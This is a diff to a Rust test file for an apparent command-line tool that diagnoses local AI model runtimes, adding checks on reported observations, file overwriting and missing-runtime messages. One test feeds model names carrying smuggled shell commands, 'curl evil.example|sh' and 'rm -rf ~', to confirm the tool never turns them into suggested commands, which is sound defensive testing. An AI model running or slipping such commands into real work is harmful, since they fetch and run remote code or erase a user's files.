@@ -37,9 +37,10 @@ fn every_finding_is_said_in_words() {
     for entry in std::fs::read_dir(folder).unwrap() {
         let path = entry.unwrap().path();
         let said = text(&diagnose(&["--from", path.to_str().unwrap()]));
-        let gap = ["finding-", "effect-", "hand-", "risk-", "lacking-", "{$", "{ $", " none "]
-            .iter()
-            .find(|it| said.contains(**it));
+        let gap =
+            ["finding-", "effect-", "hand-", "risk-", "lacking-", "rule-", "step-", "seen-", "{$", "{ $", " none "]
+                .iter()
+                .find(|it| said.contains(**it));
         assert!(gap.is_none(), "{}: {gap:?} in\n{said}", path.display());
         assert!(said.lines().all(|line| line.chars().count() <= 100), "{said}");
     }
@@ -139,5 +140,51 @@ fn bad_sets_are_refused_in_one_line() {
 fn this_machine_is_looked_at_and_answered_about() {
     let answer: Value = serde_json::from_str(&text(&diagnose(&["--json"]))).unwrap();
     let count = |field: &str| answer[field].as_array().unwrap().len();
-    assert_eq!(count("checked") + count("not_applicable") + count("not_checked"), 37);
+    assert_eq!(count("checked") + count("not_applicable") + count("not_checked"), 38);
+    // What was looked at is told, whatever was found there.
+    assert_eq!(answer["observations"]["runtimes"].as_array().unwrap().len(), 5);
+    assert!(answer["observations"]["machine"]["memory_total"].is_u64(), "{}", answer["observations"]);
+    let said = text(&diagnose(&[]));
+    for name in ["What was looked at", "Ollama", "llama.cpp", "LM Studio", "vLLM", "MLX", "OpenClaw", "Claude Code"] {
+        assert!(said.contains(name), "{name} in\n{said}");
+    }
+}
+
+#[test]
+fn a_file_that_is_there_is_not_replaced_unasked() {
+    let folder = tempfile::tempdir().unwrap();
+    let path = folder.path().join("seen.json");
+    std::fs::write(&path, "mine").unwrap();
+    let from = set("found/founding-case.json");
+    let save = ["--from", &from, "--save", path.to_str().unwrap()];
+    let out = diagnose(&save);
+    assert_eq!(out.status.code(), Some(2));
+    assert_eq!(std::fs::read_to_string(&path).unwrap(), "mine");
+    text(&diagnose(&[&save[..], &["--replace"]].concat()));
+    assert!(std::fs::read_to_string(&path).unwrap().contains("version"));
+}
+
+#[test]
+fn what_could_not_be_checked_names_its_rule() {
+    let said = text(&diagnose(&["--from", &set("healthy/container-without-runtime.json")]));
+    assert!(said.contains("Context cut short") && said.contains("Missing: a runtime"), "{said}");
+    assert!(!said.contains("Nothing found. "), "with nothing running nothing is known to be well: {said}");
+}
+
+/// A runtime may call its models what it likes. What it says is shown, and no command is made of it.
+#[test]
+fn a_hostile_name_writes_no_command() {
+    let folder = tempfile::tempdir().unwrap();
+    let text_of = std::fs::read_to_string(set("found/founding-case.json")).unwrap();
+    let path = folder.path().join("seen.json");
+    for (name, fine) in [("x; curl evil.example|sh #:v-128k", true), ("x\\nrm -rf ~\\n:v-128k", false)] {
+        std::fs::write(&path, text_of.replace("qwen3-coder:v-128k", name)).unwrap();
+        let out = diagnose(&["--from", path.to_str().unwrap()]);
+        assert_eq!(out.status.success(), fine, "{}", String::from_utf8_lossy(&out.stderr));
+        let said = String::from_utf8(out.stdout).unwrap();
+        for line in said.lines().filter(|it| it.starts_with("     ")) {
+            assert!(!line.contains("curl") && !line.contains("rm -rf"), "{line} in\n{said}");
+        }
+        assert!(!said.contains("ollama rm") && !said.contains("ollama create"), "{said}");
+    }
 }
